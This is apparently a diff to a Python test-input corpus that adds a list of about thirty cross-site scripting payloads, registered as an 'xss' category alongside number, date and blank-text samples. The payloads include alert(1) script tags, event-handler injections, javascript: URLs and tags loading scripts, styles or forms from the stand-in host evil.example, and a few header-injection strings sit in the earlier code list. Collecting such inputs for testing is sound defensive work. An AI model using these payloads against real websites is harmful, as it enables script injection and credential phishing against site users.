@@ -99,6 +99,21 @@ _CODE: Final = (
     "\\x41", "&#20013;", "=?utf-8?B?eA==?=", "level=ERROR\nadmin signed in", "\x1b[31m红", "Host: evil.example",
     "X-Auth-User: admin", "HTTP/1.1 200 OK",
 )
+_XSS: Final = (
+    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
+    "<script src=//evil.example/x.js></script>", "'\"><img src=x onerror=alert(1)>", "<img src=//evil.example/x.png>",
+    "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
+    "<a href=javascript:alert(1)>甲</a>", "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import'//evil.example/x.css'</style>", "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<base href=//evil.example>", "<form action=//evil.example><button>登录</button>",
+    "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>",
+    "<video src=//evil.example/x onerror=alert(1)></video>", "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>", "' autofocus onfocus=alert(1) x='", '" autofocus onfocus=alert(1) x="',
+    "<math><mi xlink:href=javascript:alert(1)>", "<!--><script>alert(1)</script>-->", "<script>alert(1)//",
+    '"onmouseover=alert(1)//', "<p style=background:url(//evil.example/x)>", "<x onclick=alert(1)>",
+    "<template><script>alert(1)</script></template>", "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "data:text/html,<script>alert(1)</script>",
+)
 _BLANKS: Final = (
     "", " ", "　", "\xa0", "\u2003", "\u3000\u3000", " 甲 ", "　甲　", "甲  乙", "甲　乙", "\u200b", "\ufeff甲",
     "\t甲\t", "...",
@@ -133,6 +148,7 @@ CORPUS: Final = tuple(
         "number": _NUMBERS,
         "date": _DATES,
         "code": _CODE,
+        "xss": _XSS,
         "blank": _BLANKS,
         "marks": _MARKS,
         "secrecy": _SECRECY,
